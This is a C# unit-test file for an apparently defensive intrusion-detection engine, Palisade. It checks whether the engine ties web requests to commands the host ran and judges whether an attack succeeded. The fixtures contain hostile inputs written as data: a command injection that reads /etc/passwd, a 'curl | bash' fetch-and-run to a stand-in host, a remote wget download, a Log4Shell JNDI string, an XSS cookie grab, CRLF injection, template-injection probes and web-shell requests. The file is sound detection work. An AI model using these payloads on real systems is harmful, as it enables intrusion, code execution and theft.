using Palisade.Engine.Incidents;
using Palisade.Protocol;

namespace Palisade.Engine.Tests.Incidents;

/// <summary>"Did it work?", answered by two sources: the log of a site and the log of its host.</summary>
public sealed class HostProofTests
{
    private const string Attacker = "203.0.113.66";

    private static StoryLog Visitors(string? host = null)
    {
        var log = new StoryLog();
        for (var i = 0; i < 120; i++) log.Get(i * 5, $"198.51.100.{i % 40 + 1}", $"/products/{i % 30}", host: host);
        return log;
    }

    private static StoryLog Injected(double after = 2, string? webHost = "web-01", string? auditHost = "web-01") => Visitors(webHost)
        .Get(300, Attacker, "/tools/ping?host=192.0.2.1%3Bcat%20/etc/passwd", host: webHost)
        .Ran(300 + after, auditHost, "www-data", "/usr/bin/dash", ["sh", "-c", "ping -c 1 192.0.2.1;cat /etc/passwd"]);

    private static Incident Only(IReadOnlyList<Incident> incidents)
    {
        Assert.True(incidents.Count == 1, string.Join("; ", incidents.Select(i => $"{i.Class} {i.Outcome} {string.Join(',', i.Sources.Select(s => s.Address))} {string.Join(',', i.Steps.Select(s => s.Rule.Name))}")));
        return incidents[0];
    }

    [Theory]
    [InlineData(1, 3)]
    [InlineData(3, 1)]
    public void A_command_that_the_request_brought_and_the_host_ran_has_succeeded_whichever_record_comes_first(int first, int second)
    {
        var incident = Only(StoryLog.Run(Injected().BySource((uint)first, (uint)second), out var found));
        Assert.Equal((AttackOutcome.Succeeded, "cmdi", FindingLevel.Critical), (incident.Outcome, incident.Class, incident.Level));
        Assert.Equal(Attacker, Assert.Single(incident.Sources).Address);
        Assert.Contains("web-01", incident.Hosts);
        Assert.Contains("www-data", incident.Users);
        var proof = Assert.Single(incident.Proofs);
        Assert.Equal(2_000, proof.DeedMs - proof.RequestMs);
        Assert.Contains(proof.Request, incident.Sequences);
        Assert.Contains(proof.Deed, incident.Sequences);
        Assert.Contains(found, f => f.StartsWith("behaviour.host_proof Succeeded", StringComparison.Ordinal) && f.Contains("/tools/ping", StringComparison.Ordinal) && f.Contains("cat /etc/passwd", StringComparison.Ordinal));
        var (told, toldZh) = (IncidentText.Summary(incident, StoryLog.Words, false), IncidentText.Summary(incident, StoryLog.Words, true));
        Assert.Contains($"request GET /tools/ping?host=192.0.2.1%3Bcat%20/etc/passwd from {Attacker}", told, StringComparison.Ordinal);
        Assert.Contains("then 2 s later www-data on web-01 ran", told, StringComparison.Ordinal);
        Assert.Contains("2 秒后 web-01 上的 www-data 执行了", toldZh, StringComparison.Ordinal);
        Assert.Contains("with success", IncidentText.Title(incident, StoryLog.Words, false), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(null, null)]
    [InlineData(null, "web-01")]
    [InlineData("web-01", null)]
    [InlineData("web-01", "web-01.example.com")]
    [InlineData("WEB-01", "web-01")]
    public void Hosts_are_the_same_by_name_or_where_one_log_does_not_say(string? web, string? audit) => Assert.Equal(AttackOutcome.Succeeded, Only(Injected(webHost: web, auditHost: audit).Run()).Outcome);

    [Theory]
    [InlineData(-59)]
    [InlineData(59)]
    public void A_minute_before_or_after_is_near_enough(double after) => Assert.Equal(AttackOutcome.Succeeded, Only(Injected(after).Run()).Outcome);

    [Theory]
    [InlineData(61)]
    [InlineData(-61)]
    [InlineData(400)]
    public void What_ran_at_another_time_proves_nothing(double after) => Assert.DoesNotContain(Injected(after).Run(), i => i.Outcome == AttackOutcome.Succeeded);

    [Fact]
    public void What_ran_on_another_host_proves_nothing() => Assert.DoesNotContain(Injected(auditHost: "db-07").Run(), i => i.Outcome == AttackOutcome.Succeeded);

    [Theory]
    [InlineData("/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E")]
    [InlineData("/go?next=//evil.example/%0d%0aSet-Cookie:a=b")]
    public void An_attack_that_runs_nothing_is_not_proven_by_a_command(string target)
    {
        var log = Visitors("web-01").Get(300, Attacker, target, host: "web-01").Ran(302, "web-01", "www-data", "/usr/bin/dash", ["sh", "-c", "uname -a"]);
        Assert.DoesNotContain(log.Run(), i => i.Outcome == AttackOutcome.Succeeded || i.Sources.Any() && i.Outcome == AttackOutcome.Likely);
    }

    [Fact]
    public void A_command_that_root_ran_is_nothing_the_site_did()
    {
        var log = Visitors("web-01").Get(300, Attacker, "/tools/ping?host=192.0.2.1%3Bcat%20/etc/passwd", 403, host: "web-01").Ran(302, "web-01", "root", "/usr/bin/cat", ["cat", "/etc/passwd"]);
        Assert.DoesNotContain(log.Run(), i => i.Outcome >= AttackOutcome.Likely);
    }

    [Fact]
    public void An_encoded_attack_and_an_unusual_command_within_a_second_have_probably_to_do_with_each_other()
    {
        var log = Visitors("web-01").Get(300, Attacker, "/state?v=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC", host: "web-01")
            .Ran(300.5, "web-01", "tomcat", "/usr/bin/bash", ["bash", "-c", "curl -s http://192.0.2.99/a | bash"]);
        var incident = Only([.. log.Run().Where(i => i.SourceCount > 0)]);
        Assert.Equal((AttackOutcome.Likely, "deserialization"), (incident.Outcome, incident.Class));
        Assert.Contains("Sign on the host", IncidentText.Account(incident, StoryLog.Words, false), StringComparison.Ordinal);
    }

    [Fact]
    public void What_the_site_starts_again_and_again_is_no_sign()
    {
        var log = Visitors("web-01");
        for (var i = 0; i < 60; i++) log.Ran(i * 30, "web-01", "www-data", "/usr/bin/dash", ["sh", "-c", $"curl -s http://10.0.0.5/thumb/{i}"]);
        log.Get(1_801, Attacker, "/t?name=%7B%7B7*7%7D%7D", host: "web-01").Get(1_805, Attacker, "/t?name=%7B%7Bconfig.items()%7D%7D", host: "web-01");
        Assert.DoesNotContain(log.Run(), i => i.SourceCount > 0 && i.Outcome >= AttackOutcome.Likely);
    }

    [Fact]
    public void A_web_shell_that_is_asked_for_while_its_host_looks_around_has_succeeded()
    {
        var log = Visitors("web-01");
        log.Get(200, Attacker, "/member/avatar/save", method: "POST", host: "web-01");
        for (var i = 0; i < 6; i++)
        {
            log.Get(260 + i * 30, Attacker, "/uploads/2026/x81.php", bytes: 400 + i, method: "POST", host: "web-01");
            log.Ran(260.2 + i * 30, "web-01", "www-data", "/usr/bin/whoami", ["whoami"]);
        }
        var incident = Only(log.Run());
        Assert.Equal((AttackOutcome.Succeeded, "webshell"), (incident.Outcome, incident.Class));
    }

    [Fact]
    public void The_address_a_look_up_names_and_the_host_connects_to_proves_it()
    {
        var log = Visitors("web-01").Get(300, Attacker, "/login?user=a", agent: "${jndi:ldap://192.0.2.77:1389/a}", host: "web-01");
        log.Line(301, """{"hostname":"web-01","output":"Notice outbound connection by java","output_fields":{"evt.type":"connect","fd.sip":"192.0.2.77","fd.sport":1389,"proc.name":"java","proc.cmdline":"java -jar app.jar","user.name":"tomcat"},"priority":"Notice","rule":"Unexpected outbound connection","source":"syscall","tags":["network"],"time":"2026-09-07T09:05:01.000000000Z"}""", 4);
        Assert.Contains(log.Run(), i => i is { Outcome: AttackOutcome.Succeeded, Class: "log4shell" or "command_and_control" });
    }

    [Fact]
    public void The_same_records_tell_the_same_over_a_restart_and_however_batches_are_cut()
    {
        var lines = Injected().Get(360, Attacker, "/tools/ping?host=1%3Bwget%20http://192.0.2.9/k.sh", host: "web-01").Ran(361, "web-01", "www-data", "/usr/bin/wget", ["wget", "http://192.0.2.9/k.sh"]).ByTime;
        string Told(IReadOnlyList<Incident> incidents) => string.Join('\n', incidents.Select(i => $"{i.Id} {i.Class} {i.Outcome} {i.Count} {i.Version} {string.Join(',', i.Sequences)} {IncidentText.Summary(i, StoryLog.Words, false)}"));
        var whole = Told(StoryLog.Run(lines, out var found));
        Assert.Contains("1 more", whole, StringComparison.Ordinal);
        foreach (var size in new[] { 1, 7, 61 })
        {
            Assert.Equal(whole, Told(StoryLog.Run(lines, out var again, size)));
            Assert.Equal(found.Order(), again.Order());
        }
        var state = new MemoryStream();
        var first = StoryLog.NewPipeline();
        StoryLog.Run(lines, out _, pipeline: first);
        first.SaveState(state);
        var second = StoryLog.NewPipeline();
        state.Position = 0;
        second.LoadState(state);
        var twice = new MemoryStream();
        second.SaveState(twice);
        Assert.Equal(state.ToArray(), twice.ToArray());
    }
}
